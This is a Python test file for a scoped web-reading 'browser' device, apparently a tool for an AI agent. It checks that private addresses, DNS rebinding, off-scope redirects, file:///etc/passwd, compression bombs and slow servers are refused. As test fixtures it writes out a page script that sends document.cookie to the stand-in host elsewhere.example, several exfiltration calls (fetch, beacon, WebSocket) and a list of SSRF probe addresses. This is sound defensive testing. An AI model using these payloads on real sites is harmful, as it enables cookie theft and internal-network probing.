"""The browser reads pages, no further than granted: addresses, redirections, sizes, time, scripts."""

import gzip
import http.server
import json
import shutil
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from twofold.base.errors import UsageError
from twofold.devices import _chromium, _web, browser
from twofold.kernel.device import Context, DeviceError, Returned
from twofold.kernel.flow import Ring

Answers = dict[str, Any]
PAGE = "<html><title>Acme</title><body><p>Acme makes bridges, see <a href='rounds'>its rounds</a>.</p>"
APP = """<html><title>App</title><body><div id="a">nothing yet</div><script>
fetch('/data').then(r => r.json()).then(d => { document.getElementById('a').innerHTML =
  '<h1>Loaded ' + d.n + '</h1><p>The value is <a href="/rounds">here</a>.</p>' });
fetch('/posted', {method: 'POST', body: 'secret'}).catch(() => 0);
fetch('http://localhost:1/leak').catch(() => 0); new Image().src = '/pixel?leak';
navigator.sendBeacon('/beacon', 'x'); new WebSocket('ws://' + location.host + '/socket');
</script>"""


class _Site(http.server.BaseHTTPRequestHandler):
    """Serves what the test wants: a path's (status, headers, body) or a function that answers itself."""

    answers: Answers
    asked: list[str]

    def do_GET(self) -> None:
        type(self).asked.append(self.path)
        found = self.answers.get(self.path, (404, {}, b""))
        if callable(found):
            found(self)
            return
        status, headers, body = found
        self.send_response(status)
        for name, value in {"Content-Length": str(len(body)), **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815 - the name is http.server's

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class Site:
    """A server on this machine, and what it was asked for."""

    def __init__(self) -> None:
        self.answers: Answers = {"/": html(PAGE)}
        self.asked: list[str] = []
        handler = type("Handler", (_Site,), {"answers": self.answers, "asked": self.asked})
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True).start()
        self.place = f"127.0.0.1:{self.server.server_port}"
        self.url = f"http://{self.place}"


def html(text: str, **headers: str) -> tuple[int, dict[str, str], bytes]:
    return 200, {"Content-Type": "text/html; charset=utf-8", **headers}, text.encode()


@pytest.fixture
def site() -> Iterator[Site]:
    opened = Site()
    yield opened
    opened.server.shutdown()
    opened.server.server_close()


Read = Callable[..., Returned]


@pytest.fixture
def read(site: Site) -> Read:
    device = browser.open({})

    def reading(
        path: str = "/", function: str = "read", scope: tuple[str, ...] | None = None, **more: Any
    ) -> Returned:
        url = path if "://" in path else site.url + path
        granted = (f"{site.url}/*",) if scope is None else scope
        return device.call(
            function, {"url": url, **more}, Context(pid=1, workspace=Path(), call="c", scope=granted)
        )

    return reading


def test_a_page_is_read_with_numbered_links(read: Read, site: Site) -> None:
    page = read()
    assert page.text == (
        f"Acme\n{site.url}/\n\nAcme makes bridges, see its rounds [1].\n\n[1] {site.url}/rounds"
    )
    assert page.value["links"] == [{"number": 1, "text": "its rounds", "url": f"{site.url}/rounds"}]
    assert page.label is not None
    assert (page.label.ring, page.label.sources) == (Ring.TOOL, {"web:127.0.0.1"})
    assert read(function="links").text == f"[1] its rounds: {site.url}/rounds"


def test_a_long_page_comes_in_parts(read: Read, site: Site) -> None:
    words = [f"word{n}" for n in range(3000)]
    site.answers["/long"] = html(f"<p>{' '.join(words)}</p>")
    first = read("/long")
    count = first.value["parts"]
    assert count > 2
    assert f"(part 1 of {count})" in (first.text or "")
    together = " ".join(read("/long", part=n).value["text"] for n in range(1, count + 1))
    assert together.split() == words
    with pytest.raises(DeviceError, match="parts"):
        read("/long", part=count + 1)


def test_other_kinds_are_read_as_text(read: Read, site: Site) -> None:
    site.answers["/a.json"] = (200, {"Content-Type": "application/json"}, json.dumps({"a": [1]}).encode())
    assert read("/a.json").value["text"] == '{\n "a": [\n  1\n ]\n}'
    site.answers["/a.txt"] = (200, {"Content-Type": "text/plain; charset=utf-8"}, "Über".encode())
    assert read("/a.txt").value["text"] == "Über"
    site.answers["/a.png"] = (200, {"Content-Type": "image/png"}, b"\x89PNG")
    with pytest.raises(DeviceError, match="image/png"):
        read("/a.png")


def test_what_is_packed_is_unpacked(read: Read, site: Site) -> None:
    packed = gzip.compress(PAGE.encode())
    site.answers["/packed"] = (200, {"Content-Type": "text/html", "Content-Encoding": "gzip"}, packed)
    assert read("/packed").value["title"] == "Acme"
    site.answers["/cut"] = (200, {"Content-Type": "text/html", "Content-Encoding": "gzip"}, packed[:-9])
    with pytest.raises(DeviceError, match="breaks off"):
        read("/cut")


# --- no further than granted


@pytest.mark.parametrize(
    "scope", [(), ("*",), ("http*",), ("http://127.*",), ("http://*.0.0.1:*/*",), ("https://127.0.0.1/*",)]
)
def test_this_machine_is_not_reached_unless_named(read: Read, site: Site, scope: tuple[str, ...]) -> None:
    with pytest.raises(DeviceError, match="private address"):
        read(scope=scope)
    assert site.asked == []


def test_this_machine_is_reached_when_named(read: Read, site: Site) -> None:
    for scope in (f"{site.url}/*", site.place, f"http://{site.place}/"):
        assert read(scope=(scope,)).value["title"] == "Acme"
    local = site.url.replace("127.0.0.1", "localhost")
    assert read(f"{local}/", scope=(f"{local}/*",)).value["title"] == "Acme"
    device = browser.open({"private": [site.place]})
    assert (
        device.call("read", {"url": site.url}, Context(pid=1, workspace=Path(), call="c")).value["title"]
        == "Acme"
    )


PRIVATE = (
    "127.0.0.1", "127.8.8.8", "10.0.0.1", "172.16.3.4", "192.168.1.1", "169.254.169.254", "100.64.0.1",
    "0.0.0.0", "224.0.0.1",
    "255.255.255.255", "::1", "::", "fe80::1", "fe80::1%eth0", "fc00::1", "::ffff:127.0.0.1",
    "::ffff:10.0.0.1",
    "64:ff9b::7f00:1", "2002:7f00:1::", "2001:0:7f00:1::", "ff02::1", "::127.0.0.1", "192.0.0.1",
    "198.18.0.1",
)  # fmt: skip


@pytest.mark.parametrize("ip", PRIVATE)
def test_names_that_lead_to_private_addresses_are_refused(ip: str) -> None:
    reach = _web.Reach(scope=("http://evil.example/*",), resolve=lambda host, port: [ip])
    with pytest.raises(DeviceError, match="private address"):
        _web.fetch("http://evil.example/", reach)


def test_public_addresses_are_allowed() -> None:
    where = _web.address("http://good.example/")
    for ip in ("93.184.216.34", "2606:2800:220:1::1", "::ffff:93.184.216.34"):
        assert _web.allowed(where, ip, _web.Reach())


def test_a_name_is_looked_up_once_and_that_address_is_used(site: Site) -> None:
    asked: list[str] = []

    def rebinding(host: str, port: int) -> list[str]:
        asked.append(host)  # the first answer is public, the second would be this machine
        return ["192.0.2.1" if len(asked) == 1 else "127.0.0.1"]

    reach = _web.Reach(resolve=rebinding, seconds=0.3, private=("name.example",))
    with pytest.raises(DeviceError, match=r"cannot be reached|takes too long"):
        _web.fetch(f"http://name.example:{site.server.server_port}/", reach)
    assert asked == ["name.example"]
    assert site.asked == []


def test_of_several_addresses_the_private_ones_are_left_out(site: Site) -> None:
    where = _web.address("http://both.example/")
    found = [ip for ip in ("127.0.0.1", "93.184.216.34") if _web.allowed(where, ip, _web.Reach())]
    assert found == ["93.184.216.34"]


@pytest.mark.parametrize(
    "url",
    ["file:///etc/passwd", "ftp://h/", "http://", "http://user:word@h/", "http://h\\@evil/", "http://h/ x",
     "javascript:1",
     "http://h:99999/", "http://[::1", "http://h\x00/", "data:text/html,x", "http://exa mple/",
     "http://h?\n"],
)  # fmt: skip
def test_what_is_no_address_is_refused(url: str) -> None:
    with pytest.raises(DeviceError, match=r"address|host"):
        _web.fetch(url, _web.Reach(resolve=lambda host, port: pytest.fail("it was looked up")))


def test_redirections_are_followed_on_the_host_only(read: Read, site: Site) -> None:
    site.answers["/here"] = (302, {"Location": "/"}, b"")
    assert read("/here").value["url"] == f"{site.url}/"
    site.answers["/away"] = (302, {"Location": "http://elsewhere.example/x?a=b"}, b"")
    with pytest.raises(
        DeviceError, match=r"sends on to http://elsewhere.example/x\?a=b, which has to be asked"
    ):
        read("/away")
    other = site.url.replace("127.0.0.1", "localhost")
    site.answers["/named"] = (301, {"Location": f"{other}/"}, b"")
    assert read("/named", scope=(f"{site.url}/*", f"{other}/*")).value["url"] == f"{other}/"
    with pytest.raises(DeviceError, match="has to be asked"):
        read("/named")
    site.answers["/round"] = (302, {"Location": "/round"}, b"")
    with pytest.raises(DeviceError, match="without an end"):
        read("/round")
    site.answers["/file"] = (302, {"Location": "file:///etc/passwd"}, b"")
    with pytest.raises(DeviceError, match="no address of the web"):
        read("/file")


def test_links_are_followed_by_number_within_the_scope(read: Read, site: Site) -> None:
    site.answers["/two"] = html(
        "<p><a href='/'>here</a> and <a href='http://elsewhere.example/'>there</a></p>"
    )
    assert read("/two", link=1).value["title"] == "Acme"
    with pytest.raises(DeviceError, match=r"Link 2 leads to http://elsewhere.example/, which has to"):
        read("/two", link=2)
    with pytest.raises(DeviceError, match="2 links"):
        read("/two", link=3)
    some = read("/two", link=[1, 1])
    assert [part.value.splitlines()[0] for part in some.value] == ["Acme", "Acme"]
    assert all(part.label.ring is Ring.TOOL for part in some.value)


def test_an_error_of_the_server_is_told(read: Read, site: Site) -> None:
    with pytest.raises(DeviceError, match="answers with 404 Not Found"):
        read("/missing")


def test_too_much_is_not_read(site: Site) -> None:
    reach = _web.Reach(scope=(f"{site.url}/*",), most_bytes=10_000)
    site.answers["/large"] = html("x" * 20_000)
    bomb = gzip.compress(b"x" * 5_000_000)
    assert len(bomb) < 10_000
    site.answers["/bomb"] = (200, {"Content-Type": "text/html", "Content-Encoding": "gzip"}, bomb)
    for path in ("/large", "/bomb"):
        with pytest.raises(DeviceError, match="larger than"):
            _web.fetch(site.url + path, reach)


def test_a_server_that_drips_is_left(site: Site) -> None:
    ended = threading.Event()

    def drip(handler: Any) -> None:
        handler.send_response(200)
        handler.end_headers()
        while not ended.wait(0.05):
            try:
                handler.wfile.write(b"x")
                handler.wfile.flush()
            except OSError:
                return

    def drip_headers(handler: Any) -> None:
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nX: ")
        while not ended.wait(0.05):
            try:
                handler.wfile.write(b"x")
            except OSError:
                return

    site.answers |= {"/drip": drip, "/headers": drip_headers}
    for path in ("/drip", "/headers"):
        with pytest.raises(DeviceError, match="takes too long"):
            _web.fetch(site.url + path, _web.Reach(scope=(f"{site.url}/*",), seconds=0.4))
    ended.set()


def test_a_cancelled_fetch_ends(site: Site) -> None:
    site.answers["/a"] = html("x" * 100_000)
    with pytest.raises(DeviceError, match="cancelled"):
        _web.fetch(f"{site.url}/a", _web.Reach(scope=(f"{site.url}/*",), cancelled=lambda: True))


@pytest.mark.parametrize("raw", [b"", b"garbage\r\n\r\n", b"HTTP/1.1 200\r\n" + b"A: b\r\n" * 500 + b"\r\n",
                                 b"HTTP/1.1 200 OK\r\nContent-Length: 50\r\n\r\nshort",
                                 b"HTTP/1.1 abc OK\r\n\r\n",
                                 b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"])  # fmt: skip
def test_broken_answers_are_told_in_a_sentence(site: Site, raw: bytes) -> None:
    site.answers["/raw"] = lambda handler: handler.wfile.write(raw)
    with pytest.raises(DeviceError, match="breaks off"):
        _web.fetch(f"{site.url}/raw", _web.Reach(scope=(f"{site.url}/*",)))


def test_settings_are_checked() -> None:
    for wrong in ({"private": "host"}, {"privat": []}):
        with pytest.raises(UsageError, match=r"devices.toml"):
            browser.open(wrong)


# --- with scripts


@pytest.fixture(scope="module")
def chromium() -> browser.Browser:
    pytest.importorskip("playwright")
    if not any(shutil.which(name) for name in _chromium._NAMES):
        pytest.skip("no Chromium on this machine")
    return browser.Browser((), _chromium.Settings(sandbox=False))


def test_scripts_run_and_nothing_else_gets_out(chromium: browser.Browser, site: Site) -> None:
    site.answers |= {"/app": html(APP), "/data": (200, {"Content-Type": "application/json"}, b'{"n": 42}')}
    context = Context(pid=1, workspace=Path(), call="c", scope=(f"{site.url}/*",))
    page = chromium.call("render", {"url": f"{site.url}/app"}, context)
    assert "# Loaded 42" in page.value["text"]
    assert page.value["links"] == [{"number": 1, "text": "here", "url": f"{site.url}/rounds"}]
    assert sorted(site.asked) == ["/app", "/data"]


def test_a_page_that_leaps_elsewhere_is_not_followed(chromium: browser.Browser, site: Site) -> None:
    site.answers["/leap"] = html("<script>location = 'http://elsewhere.example/?' + document.cookie</script>")
    context = Context(pid=1, workspace=Path(), call="c", scope=(f"{site.url}/*",))
    try:
        chromium.call("render", {"url": f"{site.url}/leap"}, context)
    except DeviceError as error:
        assert "elsewhere" in str(error) or "leap" in str(error)
    assert site.asked == ["/leap"]
    with pytest.raises(DeviceError, match="private address"):
        chromium.call("render", {"url": f"{site.url}/app"}, Context(pid=1, workspace=Path(), call="c"))


def test_chromium_is_not_run_as_root_unprotected(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("os.geteuid", lambda: 0)
    with pytest.raises(DeviceError, match="sandbox = false"):
        _chromium.program(_chromium.Settings(program="/bin/true"))
    monkeypatch.setattr("shutil.which", lambda name: None)
    with pytest.raises(DeviceError, match="no Chromium"):
        _chromium.program(_chromium.Settings())
